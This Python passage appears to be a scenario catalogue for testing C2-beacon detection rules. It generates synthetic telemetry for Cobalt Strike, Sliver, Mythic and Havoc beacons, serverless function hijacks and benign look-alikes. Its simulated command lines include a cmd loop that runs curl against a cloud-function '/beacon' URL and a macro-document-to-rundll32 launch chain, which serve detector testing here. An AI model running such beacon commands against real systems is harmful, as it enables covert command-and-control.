    b.connect(ws, SCRIPT_CONTENT, b.at(46.65), sent=690, recv=1_480)


def _t1583_curl_loop(b: Builder) -> None:
    h = b.host("WS-OPS-11", "10.20.50.11", "frank")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    url = f"https://{CLOUD_FUNCTION.domain}/beacon"
    loop = f"for /l %i in (1,1,4) do @(curl.exe -s -o NUL {url} & timeout /t 30 /nobreak >NUL)"
    cmd = b.process(h, CMD, f'"{CMD}" /c "{loop}"', parent=explorer, t=b.at(55.0))
    t = cmd.start + 0.2
    for _ in range(4):
        curl = b.process(h, CURL, f"curl.exe  -s -o NUL {url}", parent=cmd, t=t)
        b.lookup(curl, CLOUD_FUNCTION, t + 0.04)
        b.connect(curl, CLOUD_FUNCTION, t + 0.09, sent=520, recv=1_790, duration=0.31)
        wait = b.process(h, TIMEOUT, "timeout  /t 30 /nobreak", parent=cmd, t=t + 0.45)
        t = wait.start + 30.0 + float(b.rng.uniform(0.05, 0.2))


# -- C2 framework profiles ------------------------------------------------------------------


def _cobalt_strike(b: Builder) -> None:
    """Cobalt Strike HTTPS beacons, ``sleep 60 <jitter>`` with jitter 0, 50 and 90 %,
    through a Workers redirector (jQuery malleable profile: GET /jquery-3.3.1.min.js)."""
    specs = (
        ("WS-ACC-01", "10.20.60.11", "gina", 0.0, "rundll32"),
        ("WS-ACC-02", "10.20.60.12", "hank", 0.5, "dropped"),
        ("WS-ACC-03", "10.20.60.13", "ivy", 0.9, "task"),
    )
    for name, ip, user, jitter, launch in specs:
        h = b.host(name, ip, user)
        explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
        t0 = b.at(60.0 + 7 * len(name))
        if launch == "rundll32":
            word = b.process(
                h,
                WINWORD,
                f'"{WINWORD}" /n "C:\\Users\\{user}\\Downloads\\Q3-invoice.docm"',
                parent=explorer,
                t=t0 - 20,
            )
            proc = b.process(
                h,
                RUNDLL32,
                f'"{RUNDLL32}" C:\\Users\\{user}\\AppData\\Local\\Temp\\wwlib64.dll,StartW',
                parent=word,
                t=t0,
            )
        elif launch == "dropped":
            image = rf"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Templates\msupdate.exe"
            proc = b.process(h, image, f'"{image}"', parent=explorer, t=t0)
        else:
            sched = b.running(h, SVCHOST, f"{SVCHOST} -k netsvcs -p -s Schedule", user="SYSTEM")
            image = r"C:\ProgramData\Intel\igfxtray64.exe"
            proc = b.process(h, image, f'"{image}"', parent=sched, t=t0, user="SYSTEM")
        times = timing.sleep_jitter(60.0, jitter, t0 + 1, t0 + 3 * 3600, b.rng)
        b.beacon(proc, CS_REDIRECTOR, times.tolist(), sent=(560, 25), recv=(5_240, 60))


def _sliver(b: Builder) -> None:
    h = b.host("WS-HR-04", "10.20.21.44", "lena")
    services = b.running(h, SERVICES, SERVICES, user="SYSTEM")
    image = r"C:\ProgramData\Microsoft\DeviceSync\devsync.exe"
    proc = b.process(h, image, f'"{image}" -service', parent=services, t=b.at(90.0), user="SYSTEM")
    times = timing.additive_jitter(60.0, 30.0, proc.start + 2, proc.start + 3 * 3600, b.rng)
    b.beacon(proc, SLIVER_LAMBDA, times.tolist(), sent=(930, 140), recv=(310, 45))


def _mythic(b: Builder) -> None:
    h = b.host("WS-LEG-02", "10.20.24.12", "judy")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    image = r"C:\Users\judy\AppData\Local\Packages\SyncHost\synchost.exe"
    proc = b.process(h, image, f'"{image}"', parent=explorer, t=b.at(120.0))
    times = timing.sleep_jitter(10.0, 0.23, proc.start + 1, proc.start + 3600, b.rng)
    b.beacon(proc, MYTHIC_FUNCTION, times.tolist(), sent=(720, 50), recv=(190, 25))


def _havoc(b: Builder) -> None:
    h = b.host("WS-OPS-09", "10.20.50.19", "ken")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    image = r"C:\Users\ken\Downloads\invoice_viewer.exe"
    proc = b.process(h, image, f'"{image}"', parent=explorer, t=b.at(150.0))
    times = timing.sleep_jitter(2.0, 0.15, proc.start + 1, proc.start + 20 * 60, b.rng)
    b.beacon(proc, HAVOC_RUN, times.tolist(), sent=(610, 30), recv=(140, 20), dns="cache")


def _apps_script_slow(b: Builder) -> None:
    h = b.host("WS-EXE-01", "10.20.70.11", "laura")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    image = r"C:\Users\laura\AppData\Local\GoogleDriveSync\gdsync.exe"
    proc = b.process(h, image, f'"{image}" --background', parent=explorer, t=b.at(200.0))
    times = timing.sleep_jitter(4 * 3600.0, 0.2, proc.start + 5, proc.start + 3 * 86_400, b.rng)
    for t in times.tolist():
        b.lookup(proc, SCRIPT_GOOGLE, t - 0.05)
        b.connect(
            proc, SCRIPT_GOOGLE, t, sent=int(b.rng.normal(640, 20)), recv=int(b.rng.normal(820, 15))
        )
        b.lookup(proc, SCRIPT_CONTENT, t + 0.6)
        b.connect(
            proc,
            SCRIPT_CONTENT,
            t + 0.65,
            sent=int(b.rng.normal(600, 20)),
            recv=int(b.rng.normal(1_900, 80)),
        )


# -- benign look-alikes ---------------------------------------------------------------------


def _browser(
    b: Builder, h: Host, image: str, parent: Process, t: float, *, network_service: bool
) -> Process:
    main = b.process(h, image, f'"{image}"', parent=parent, t=t)
    if not network_service:
        return main
    return b.process(
        h,
        image,
        f'"{image}" --type=utility --utility-sub-type=network.mojom.NetworkService '
        "--lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2104 "
        "--field-trial-handle=1988,i,1403219911542838402,10977207513263925003,262144 /prefetch:11",
        parent=main,
        t=t + 0.4,
    )


def _browse(b: Builder, proc: Process, sites: list[Destination], times: np.ndarray) -> None:
    """Page loads: a few connections per request to the chosen site."""
    for t in times.tolist():
        dest = sites[int(b.rng.integers(0, len(sites)))]
        for k in range(int(b.rng.integers(1, 4))):
            b.beacon(
                proc,
                dest,
                [t + 0.05 * k],
                sent=(1_800, 400),
                recv=(45_000, 20_000),
                dns="cache",
            )


def _benign_browsers(b: Builder) -> None:
    h = b.host("WS-MKT-05", "10.20.80.15", "mike")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    end = b.at(9 * 3600)
    chrome = _browser(b, h, CHROME, explorer, b.at(30.0), network_service=True)
    sites = [PAGES_SITE, NETLIFY_SITE, GOOGLE, SCRIPT_GOOGLE, VERCEL_SITE, SCRIPT_CONTENT]
    _browse(b, chrome, sites, timing.human(10, b.at(60), end, b.rng))
    edge = _browser(b, h, MSEDGE, explorer, b.at(600.0), network_service=True)
    b.beacon(edge, VERCEL_SITE, [b.at(602.0)], sent=(2_100, 10), recv=(180_000, 100), dns="every")
    # The SPA's client polls its Supabase backend every 30 s while the tab is open.
    poll = timing.periodic_poller(30.0, b.at(605.0), b.at(605.0 + 2 * 3600), b.rng, jitter_s=0.4)
    b.beacon(edge, SUPABASE_API, poll.tolist(), sent=(980, 40), recv=(2_300, 300), dns="cache")
    firefox = _browser(b, h, FIREFOX, explorer, b.at(4 * 3600.0), network_service=False)
    _browse(
        b,
        firefox,
        [NETLIFY_SITE, PAGES_SITE, BING],
        timing.human(4, b.at(4 * 3600 + 60), end, b.rng),
    )


def _benign_cicd(b: Builder) -> None:
    h = b.host("GHA-RUNNER-01", "10.30.1.15", "svc_gha", workstation=False)
    services = b.running(h, SERVICES, SERVICES, user="SYSTEM")
    listener = b.process(
        h,
        RUNNER_LISTENER,
        f'"{RUNNER_LISTENER}" run --startuptype service',
        parent=services,
        t=b.at(5.0),
        cwd="C:\\actions-runner\\",
    )
    # The listener long-polls over one kept-alive connection: a new TCP connection only
    # when the broker or a proxy drops it, at random.
    reconnects = timing.poisson(1 / 1_500.0, b.at(10.0), b.at(8 * 3600), b.rng)
    b.beacon(
        listener,
        GHA_BROKER,
        [b.at(10.0), *reconnects.tolist()],
        sent=(1_400, 60),
        recv=(900, 300),
        dns="cache",
    )
    for job, offset in enumerate((1_800.0, 2 * 3600.0, 5 * 3600.0)):
        worker = b.process(
            h,
            RUNNER_WORKER,
            f'"{RUNNER_WORKER}" spawnclient 1532 1548',
            parent=listener,
            t=b.at(offset),
            cwd="C:\\actions-runner\\",
        )
        b.beacon(worker, GHA_API, [b.at(offset + 2.0)], sent=(2_200, 50), recv=(6_000, 500))
        script = (
            rf"C:\actions-runner\_work\_temp\{0x5F3A9C10 + job:x}"
            "-7b2e-4d1a-9c3f-2e8b1a6d4c0f.ps1"
        )
        pwsh = b.process(
            h,
            PWSH,
            f'"{PWSH}" -command ". \'{script}\'"',
            parent=worker,
            t=b.at(offset + 40.0),
            cwd="C:\\actions-runner\\_work\\acme-web\\acme-web\\",
        )
        polls = timing.periodic_poller(
            10.0, b.at(offset + 45.0), b.at(offset + 45.0 + 180.0), b.rng, jitter_s=0.3
        )
        b.beacon(pwsh, CI_DEPLOY_API, polls.tolist(), sent=(640, 20), recv=(420, 30), dns="cache")
        checks = [b.at(offset + 240.0 + 5 * i) for i in range(3)]
        b.beacon(pwsh, CI_PREVIEW, checks, sent=(700, 20), recv=(38_000, 2_000), dns="cache")


def _benign_monitoring(b: Builder) -> None:
    h = b.host("MON-01", "10.30.2.21", "svc_mon", workstation=False)
    services = b.running(h, SERVICES, SERVICES, user="SYSTEM")
    agent = b.process(
        h,
        DATADOG,
        f'"{DATADOG}" run',
        parent=services,
        t=b.at(3.0),
        user="SYSTEM",
        cwd="C:\\Program Files\\Datadog\\Datadog Agent\\",
    )
    for dest, offset in ((MON_FUNCTION, 10.0), (MON_LAMBDA, 25.0)):
        times = timing.periodic_poller(60.0, b.at(offset), b.at(8 * 3600), b.rng, jitter_s=0.2)
        b.beacon(agent, dest, times.tolist(), sent=(520, 10), recv=(310, 15), dns="cache")


def _benign_backup(b: Builder) -> None:
    h = b.host("WS-FIN-11", "10.20.7.71", "nina")
    services = b.running(h, SERVICES, SERVICES, user="SYSTEM")
    svc = b.process(
        h, VEEAM_SERVICE, f'"{VEEAM_SERVICE}"', parent=services, t=b.at(4.0), user="SYSTEM"
    )
    agent = b.process(
        h,
        VEEAM_AGENT,
        f'"{VEEAM_AGENT}" -s 7c1f5a42-93b0-4f1e-8d6c-2a9e7b3d5f10',
        parent=svc,
        t=b.at(6.0),
        user="SYSTEM",
    )
    status = timing.periodic_poller(900.0, b.at(60.0), b.at(24 * 3600), b.rng, jitter_s=4.0)
    b.beacon(agent, BACKUP_API, status.tolist(), sent=(1_100, 30), recv=(650, 40), dns="cache")
    nightly = timing.bursty(1 / 1800.0, 40.0, 20.0, b.at(16 * 3600), b.at(18 * 3600), b.rng)
    b.beacon(
        agent, BACKUP_API, nightly.tolist(), sent=(900_000, 200_000), recv=(400, 30), dns="cache"
    )


def _benign_devtools(b: Builder) -> None:
    h = b.host("WS-DEV-03", "10.20.33.23", "bob")
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    code = r"C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe"
    vscode = b.process(h, code, f'"{code}"', parent=explorer, t=b.at(60.0))
    cwd = r"C:\Users\bob\src\acme-api\\"
    wrangler = b.process(
        h,
        NODE,
        f'"{NODE}" C:\\Users\\bob\\src\\acme-api\\node_modules\\wrangler\\'
        "wrangler-dist\\cli.js dev --remote",
        parent=vscode,
        t=b.at(300.0),
        cwd=cwd,
    )
    b.beacon(wrangler, CF_API, [b.at(302.0), b.at(303.5)], sent=(900, 50), recv=(2_600, 200))
    edits = timing.human(6, b.at(320.0), b.at(8 * 3600), b.rng, think_s=90.0)
    b.beacon(
        wrangler, DEV_WORKER, edits.tolist(), sent=(1_300, 300), recv=(2_100, 600), dns="cache"
    )
    vercel = b.process(
        h,
        NODE,
        f'"{NODE}" C:\\Users\\bob\\AppData\\Roaming\\npm\\node_modules\\vercel\\dist\\index.js dev',
        parent=vscode,
        t=b.at(1_200.0),
        cwd=cwd,
    )
    b.beacon(
        vercel, VERCEL_API, [b.at(1_202.0), b.at(1_260.0)], sent=(1_100, 40), recv=(3_800, 300)
    )
    py = user_python("bob")
    for run, offset in enumerate((3_600.0, 3 * 3600.0, 6 * 3600.0)):
        pytest = b.process(
            h,
            py,
            f'"{py}" -m pytest tests\\integration -k lambda_{run}',
            parent=vscode,
            t=b.at(offset),
            cwd=cwd,
        )
        calls = timing.bursty(1 / 20.0, 6.0, 1.5, b.at(offset + 2), b.at(offset + 60), b.rng)
        b.beacon(
            pytest, DEV_LAMBDA, calls.tolist(), sent=(700, 200), recv=(1_500, 400), dns="cache"
        )
    for i, offset in enumerate((2_000.0, 2_030.0, 9_000.0)):
        url = f"https://{DEV_WORKER.domain}/v1/orders?limit={5 * (i + 1)}"
        curl = b.process(
            h,
            CURL,
            f'curl.exe -s -H "Authorization: Bearer $TOKEN" {url}',
            parent=vscode,
            t=b.at(offset),
            cwd=cwd,
        )
        b.beacon(curl, DEV_WORKER, [b.at(offset + 0.1)], sent=(640, 10), recv=(3_100, 100))


def _benign_m365(b: Builder) -> None:
    for i, user in enumerate(("olga", "pete", "quinn")):
        h = b.host(f"WS-ENG-{31 + i}", f"10.20.12.{131 + i}", user)
        m365_apps(b, h, [(b.start, b.at(8 * 3600)), (b.at(86_400), b.at(86_400 + 8 * 3600))])


def _benign_human(b: Builder) -> None:
    h = b.host("WS-LGL-08", "10.20.90.18", "paul")
    end = b.at(2 * 86_400)
    services = b.running(h, SERVICES, SERVICES, user="SYSTEM")
    ncsi_host = b.process(
        h,
        SVCHOST,
        f"{SVCHOST} -k LocalService -p -s NlaSvc",
        parent=services,
        t=b.at(2.0),
        user="LOCAL SERVICE",
        user_domain="NT AUTHORITY",
    )
    probe = HttpRequest("GET", "/connecttest.txt", "Microsoft NCSI", 200, 22)
    # Active probes on network changes (wake, Wi-Fi roaming, VPN): at random, a few a day.
    ncsi = timing.poisson(1 / 5_400.0, b.at(5.0), end, b.rng)
    b.beacon(
        ncsi_host,
        NCSI,
        [b.at(5.0), *ncsi.tolist()],
        sent=(165, 0),
        recv=(354, 0),
        dns="cache",
        http=probe,
    )
    explorer = b.running(h, EXPLORER, r"C:\Windows\Explorer.EXE")
    chrome = _browser(b, h, CHROME, explorer, b.at(40.0), network_service=True)
    _browse(b, chrome, [GOOGLE, NEWS, SHAREPOINT, BING], timing.human(8, b.at(60.0), end, b.rng))
    word_times = timing.human(3, b.at(600.0), end, b.rng, think_s=300.0)
    for t in word_times.tolist()[:6]:
        word = b.process(
            h,
            WINWORD,
            f'"{WINWORD}" /n "C:\\Users\\paul\\Documents\\contract-draft.docx"',
            parent=explorer,
            t=t,
        )
        b.beacon(word, OFFICE_CLIENT, [t + 1.5], sent=(1_200, 50), recv=(9_000, 500), dns="cache")


# -- the catalogue --------------------------------------------------------------------------

_ALL_RULES = Forbid("*", why="a benign scenario must raise no finding of relayhunt's rules")
FLEET_FORBIDS = tuple(
    Forbid("*", process=image, why="the Microsoft 365 apps every workstation runs are benign")
    for image in M365_IMAGES
)
"""Added to every scenario: the background apps must never be flagged, on any host."""

SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "t1584-beacon-workers",
        "Simulated C2 beacon to a Cloudflare Workers domain",
        "adversary",
        "seeds 000/001, test 1",
        "powershell.exe loops Invoke-WebRequest against a workers.dev host: 15 "
        "connections about 30 s apart (jitter coefficient < 0.05), EID 1/22/3, script block.",
        _t1584_beacon_workers,
        expect=(
            Expect("RH-SL-001", "WS-FIN-07", "powershell.exe", WORKERS_BEACON.domain),
            Expect("RH-SL-002", "WS-FIN-07", "powershell.exe", WORKERS_BEACON.domain),
            Expect("RH-SL-005", "WS-FIN-07", "powershell.exe", WORKERS_BEACON.domain),
        ),
    ),
    Scenario(
        "t1584-beacon-httpbin",
        "The same beacon as the seeds' expected signal has it: to httpbin.org",
        "adversary",
        "seeds 000/001, test 1 (expected signal as written)",
        "The seeds' expected signal names httpbin.org, which no serverless list catches: "
        "only a domain-agnostic beacon detector can.",
        _t1584_beacon_httpbin,
        expect=(Expect("RH-SL-005", "WS-FIN-08", "powershell.exe", HTTPBIN.domain),),
        forbid=(
            Forbid("RH-SL-001", why="httpbin.org is not a serverless platform"),
            Forbid("RH-SL-002", why="httpbin.org is not a serverless platform"),
        ),
    ),
    Scenario(
        "t1584-lambda-url-post",
        "Non-browser process POSTing to an AWS Lambda function URL",
        "adversary",
        "seeds 000/001, test 2",
        "powershell.exe Invoke-RestMethod -Method Post, 5 small requests to a Lambda "
        "function URL (<id>.lambda-url.us-east-1.on.aws, the seeds' amazonaws.com form "
        "corrected), with DNS.",
        _t1584_lambda_post,
        expect=(
            Expect("RH-SL-001", "WS-ENG-21", "powershell.exe", LAMBDA_T2.domain),
            Expect("RH-SL-002", "WS-ENG-21", "powershell.exe", LAMBDA_T2.domain),
        ),
    ),
    Scenario(
        "t1584-aws-cli-lambda",
        "Enumerate and invoke a Lambda function with the AWS CLI",
        "adversary",
        "seeds 000/001, test 3",
        "aws.exe lambda list-functions, then lambda invoke: CloudTrail "
        "ListFunctions20150331 (management) and Invoke (data event), userAgent aws-cli; "
        "on the endpoint, aws.exe talking to the Lambda API (not a function URL).",
        _t1584_aws_cli,
        expect=(
            Expect(
                "RH-CP-*",
                "",
                None,
                "df00tech-argus-test",
                formats="cloudtrail",
                why="enumeration followed by invocation from a CLI user agent",
            ),
        ),
        clouds=("cloudtrail",),
    ),
    Scenario(
        "t1584-wrangler-deploy",
        "Deploy a Cloudflare Worker with wrangler",
        "adversary",
        "seeds 000/001, test 4",
        "cmd.exe -> node.exe (npx) -> node.exe (wrangler) deploys a Worker through "
        "api.cloudflare.com; the Cloudflare audit log records the script upload by an "
        "unknown actor.",
        _t1584_wrangler,
        expect=(
            Expect(
                "RH-CP-*",
                "",
                None,
                "df00tech-relay",
                formats="cloudflare-audit",
                why="Worker deployed by an unknown actor",
            ),
        ),
        clouds=("cloudflare-audit",),
    ),
    Scenario(
        "t1584-gcp-function-hijack",
        "Google Cloud Function's code replaced, then opened to allUsers",
        "adversary",
        "issue 6 (T1584.007 on Google Cloud)",
        "An outside account (gcloud, new address) updates the code of the Cloud Function "
        "invoice-export (UpdateFunction), then grants allUsers roles/cloudfunctions.invoker "
        "(SetIamPolicy with a policyDelta ADD).",
        _gcp_function_hijack,
        expect=(
            Expect(
                "RH-CP-001",
                "",
                None,
                GCP_HIJACKED,
                formats="gcp-audit",
                why="code replaced by a principal that never deployed",
            ),
            Expect(
                "RH-CP-002",
                "",
                None,
                GCP_HIJACKED,
                formats="gcp-audit",
                why="allUsers granted the invoker role",
            ),
        ),
        clouds=("gcp-audit",),
        off_estate=OFF_ESTATE_ATTACKER,
    ),
    Scenario(
        "t1584-azure-function-zipdeploy",
        "Azure Function App redeployed and given a new function key by an unusual caller",
        "adversary",
        "issue 6 (T1584.007 on Azure)",
        "A user who never deploys runs az functionapp deployment source config-zip from a "
        "new address (app settings read and written, triggers synced), then az functionapp "
        "function keys set; the token's appid is the Azure CLI's.",
        _azure_function_zipdeploy,
        expect=(
            Expect(
                "RH-CP-001",
                "",
                None,
                AZ_HIJACKED,
                formats="azure-activity",
                why="run-from-package setting and trigger sync by a principal that never deployed",
            ),
            Expect(
                "RH-CP-002",
                "",
                None,
                AZ_HIJACKED,
                formats="azure-activity",
                why="a new function key: a way in for anyone holding it",
            ),
        ),
        clouds=("azure-activity",),
        off_estate=OFF_ESTATE_ATTACKER,
    ),
    Scenario(
        "t1584-azure-function-anonymous",
        "Anonymous HTTP function and CORS * added to an Azure Function App",
        "adversary",
        "issue 6 (T1584.007 on Azure)",
        "With a developer's stolen session, a new HTTP function with authLevel anonymous "
        "is written into an existing Function App and CORS is opened to every origin; "
        "each request body is logged on the operation's Start entry only.",
        _azure_function_anonymous,
        expect=(
            Expect(
                "RH-CP-002",
                "",
                None,
                AZ_REPORTS_SITE,
                formats="azure-activity",
                why="authLevel anonymous and CORS *, read from the Start entries' request "
                "bodies and joined to the Success entries",
            ),
        ),
        clouds=("azure-activity",),
        off_estate=OFF_ESTATE_ATTACKER,
    ),
    Scenario(
        "t1583-powershell-workers",
        "PowerShell beaconing to a Cloudflare Workers endpoint",
        "adversary",
        "seeds 003/004, test 1",
        "powershell.exe with Invoke-WebRequest and the workers.dev URL on its command "
        "line; 5 DNS queries and 5 connections; script block 4104.",
        _t1583_powershell_workers,
        expect=(
            Expect("RH-SL-001", "WS-FIN-09", "powershell.exe", WORKERS_SENTINEL.domain),
            Expect("RH-SL-002", "WS-FIN-09", "powershell.exe", WORKERS_SENTINEL.domain),
        ),
    ),
    Scenario(
        "t1583-python-lambda",
        "Python script polling an AWS Lambda function URL",
        "adversary",
        "seeds 003/004, test 2",
        "cmd.exe starts python.exe poll_lambda.py with the function URL on the command "
        "line; 20 polls 30 s apart.",
        _t1583_python_lambda,
        expect=(
            Expect("RH-SL-001", "WS-ENG-14", "python.exe", LAMBDA_POLL.domain),
            Expect("RH-SL-002", "WS-ENG-14", "python.exe", LAMBDA_POLL.domain),
            Expect("RH-SL-002", "WS-ENG-14", "cmd.exe", LAMBDA_POLL.domain),
            Expect("RH-SL-005", "WS-ENG-14", "python.exe", LAMBDA_POLL.domain),
        ),
    ),
    Scenario(
        "t1583-wscript-apps-script",
        "WScript invoking a Google Apps Script web app (BlackWater technique)",
        "adversary",
        "seeds 003/004, test 3",
        "cmd.exe echoes a .js into %TEMP% (EID 11), wscript.exe runs it, resolves and "
        "calls script.google.com and follows the redirect to script.googleusercontent.com.",
        _t1583_wscript,
        expect=(
            Expect("RH-SL-003", "WS-HR-03", "wscript.exe", SCRIPT_GOOGLE.domain),
            Expect("RH-SL-001", "WS-HR-03", "wscript.exe", SCRIPT_GOOGLE.domain),
            Expect("RH-SL-002", "WS-HR-03", "cmd.exe", SCRIPT_GOOGLE.domain),
        ),
    ),
    Scenario(
        "t1583-curl-cloudfunctions",
        "cURL beaconing to a Google Cloud Function from a cmd for-loop",
        "adversary",
        "seeds 003/004, test 4",
        "cmd.exe runs a for /l loop that starts curl.exe 4 times (a new process per "
        "check-in) against a cloudfunctions.net URL, 30 s apart.",
        _t1583_curl_loop,
        expect=(
            Expect("RH-SL-001", "WS-OPS-11", "curl.exe", CLOUD_FUNCTION.domain),
            Expect("RH-SL-002", "WS-OPS-11", "curl.exe", CLOUD_FUNCTION.domain),
            Expect("RH-SL-002", "WS-OPS-11", "cmd.exe", CLOUD_FUNCTION.domain),
        ),
    ),
    Scenario(
        "c2-cobalt-strike",
        "Cobalt Strike HTTPS beacons (60 s, jitter 0 / 50 / 90 %) via a Workers redirector",
        "adversary",
        "C2 profile",
        "Three hosts, three launch chains (Word -> rundll32, a dropped EXE, a scheduled "
        "task as SYSTEM), each beaconing 3 h with sleep 60 and jitter 0, 50 and 90 %.",
        _cobalt_strike,
        expect=tuple(
            Expect(rule, host, image, CS_REDIRECTOR.domain)
            for host, image in (
                ("WS-ACC-01", "rundll32.exe"),
                ("WS-ACC-02", "msupdate.exe"),
                ("WS-ACC-03", "igfxtray64.exe"),
            )
            for rule in ("RH-SL-001", "RH-SL-005")
        ),
    ),
    Scenario(
        "c2-sliver",
        "Sliver HTTPS implant (60 s + 0..30 s) via an AWS Lambda function URL",
        "adversary",
        "C2 profile",
        "A Sliver service implant running as SYSTEM; sleeps of 60 s plus up to 30 s for 3 h.",
        _sliver,
        expect=(
            Expect("RH-SL-001", "WS-HR-04", "devsync.exe", SLIVER_LAMBDA.domain),
            Expect("RH-SL-005", "WS-HR-04", "devsync.exe", SLIVER_LAMBDA.domain),
        ),
    ),
    Scenario(
        "c2-mythic",
        "Mythic agent (10 s, 23 % jitter) via Azure Functions",
        "adversary",
        "C2 profile",
        "An Apollo-style agent in AppData POSTing to an azurewebsites.net function every "
        "10 s with 23 % jitter for an hour.",
        _mythic,
        expect=(
            Expect("RH-SL-001", "WS-LEG-02", "synchost.exe", MYTHIC_FUNCTION.domain),
            Expect("RH-SL-005", "WS-LEG-02", "synchost.exe", MYTHIC_FUNCTION.domain),
        ),
    ),
    Scenario(
        "c2-havoc",
        "Havoc demon (2 s, 15 % jitter) via Google Cloud Run",
        "adversary",
        "C2 profile",
        "An interactive Havoc session: a demon from Downloads checking in every 2 s with "
        "15 % jitter for 20 minutes; DNS only when the cached answer expires.",
        _havoc,
        expect=(
            Expect("RH-SL-001", "WS-OPS-09", "invoice_viewer.exe", HAVOC_RUN.domain),
            Expect("RH-SL-005", "WS-OPS-09", "invoice_viewer.exe", HAVOC_RUN.domain),
        ),
    ),
    Scenario(
        "c2-apps-script-slow",
        "Slow beacon through Google Apps Script (4 h, 20 % jitter, 3 days)",
        "adversary",
        "C2 profile",
        "A low-and-slow implant calling an Apps Script web app every ~4 hours for three "
        "days, each call redirected to script.googleusercontent.com.",
        _apps_script_slow,
        expect=(
            Expect("RH-SL-001", "WS-EXE-01", "gdsync.exe", SCRIPT_GOOGLE.domain),
            Expect("RH-SL-005", "WS-EXE-01", "gdsync.exe", SCRIPT_GOOGLE.domain),
        ),
    ),
    Scenario(
        "benign-browsers",
        "Browsers on serverless-hosted sites",
        "benign",
        "seeds 000, 002-004 false positives",
        "Chrome (network service process), Edge and Firefox on Pages, Vercel, Netlify "
        "and Apps Script sites; an Edge tab whose single-page app polls its Supabase "
        "backend every 30 s for two hours.",
        _benign_browsers,
        forbid=(_ALL_RULES,),
    ),
    Scenario(
        "benign-cicd-agent",
        "CI/CD agent polling a deployment endpoint",
        "benign",
        "seeds 000, 002 false positives",
        "A GitHub Actions self-hosted runner; each deploy job's pwsh step polls the "
        "deployment API (API Gateway) every 10 s and checks the Vercel preview.",
        _benign_cicd,
        forbid=(_ALL_RULES,),
        allow=(
            Allow(
                "GitHub Actions runner jobs poll our deployment API and check our preview",
                (CI_DEPLOY_API.domain, CI_PREVIEW.domain),
                ("GHA-RUNNER-01",),
                parent=(r"*\actions-runner\bin\Runner.Worker.exe", "Runner.Worker.exe"),
            ),
        ),
    ),
    Scenario(
        "benign-monitoring-agent",
        "Monitoring agent health-checking serverless endpoints",
        "benign",
        "seeds 000-004 false positives",
        "The Datadog agent checks an Azure Function and a Lambda function URL every 60 s.",
        _benign_monitoring,
        forbid=(_ALL_RULES,),
        allow=(
            Allow(
                "Datadog HTTP checks of our order service and Lambda health endpoint",
                (MON_FUNCTION.domain, MON_LAMBDA.domain),
                ("MON-01",),
                process=(r"*\Datadog\Datadog Agent\bin\agent.exe",),
            ),
        ),
    ),
    Scenario(
        "benign-backup-sync",
        "Backup client staging through an API Gateway endpoint",
        "benign",
        "seed 001 false positives",
        "Veeam Agent reports status every 15 minutes and uploads in bursts at night.",
        _benign_backup,
        forbid=(_ALL_RULES,),
        allow=(
            Allow(
                "Veeam Agent reports to and stages backups through our API Gateway",
                (BACKUP_API.domain,),
                ("WS-FIN-11",),
                process=(r"*\Veeam\*\VeeamAgent.exe",),
                parent=(r"*\Veeam.EndPoint.Service.exe", "Veeam.EndPoint.Service.exe"),
            ),
        ),
    ),
    Scenario(
        "benign-developer-tools",
        "Developer tools on a developer workstation",
        "benign",
        "seeds 001, 003, 004 false positives",
        "wrangler dev and vercel dev (node.exe), pytest integration runs calling the "
        "team's Lambda URL, curl against the team's Worker.",
        _benign_devtools,
        forbid=(_ALL_RULES,),
        allow=(
            Allow(
                "Developer tools and tests on WS-DEV-03 against the team's own Worker and Lambda",
                ("*.acme-eng.workers.dev", DEV_LAMBDA.domain),
                ("WS-DEV-03",),
                process=(r"*\nodejs\node.exe", r"*\Python312\python.exe", r"*\System32\curl.exe"),
            ),
        ),
    ),
    Scenario(
        "benign-gcp-ci-deploys",
        "CI service account redeploying a Cloud Function daily",
        "benign",
        "issue 6 (benign deployments)",
        "GitHub Actions, through workload identity federation as "
        "gha-deployer@acme-payments-prod.iam.gserviceaccount.com, redeploys orders-webhook "
        "(UpdateFunction, gcloud from a script) once a day for five days, each day from "
        "another runner address.",
        _gcp_ci_deploys,
        forbid=(_ALL_RULES,),
        clouds=("gcp-audit",),
        deployers=(f"gha-deployer@{GCP_PROJECT}.iam.gserviceaccount.com",),
        off_estate=OFF_ESTATE_CI,
    ),
    Scenario(
        "benign-azure-devops-deploys",
        "Azure DevOps pipeline deploying a Function App daily",
        "benign",
        "issue 6 (benign deployments)",
        "The pipeline's service principal writes the app settings and syncs the triggers "
        "of acme-orders-func once a day for five days, from Microsoft-hosted agents.",
        _azure_devops_deploys,
        forbid=(_ALL_RULES,),
        clouds=("azure-activity",),
        deployers=(AZ_DEVOPS_APPID,),
        off_estate=OFF_ESTATE_CI,
    ),
    Scenario(
        "benign-m365-heartbeats",
        "Microsoft 365 heartbeats",
        "benign",
        "seed samples",
        "Three workstations running only Teams, OneDrive and Outlook for two office "
        "days: new connections every 5 and 10 minutes, periodic, to Microsoft services. "
        "(Every other workstation runs the same apps in the background.)",
        _benign_m365,
        forbid=(_ALL_RULES,),
        background=False,
    ),
    Scenario(
        "benign-human-traffic",
        "Human-driven traffic over two office days",
        "benign",
        "seeds 000/001 (beacon look-alikes)",
        "Browsing, Word opening documents, and Windows' connectivity probe (NCSI, plain "
        "HTTP) on network changes.",
        _benign_human,
        forbid=(_ALL_RULES,),
    ),
)
BY_NAME = {s.name: s for s in SCENARIOS}


__all__ = ["BY_NAME", "SCENARIOS", "Scenario"]
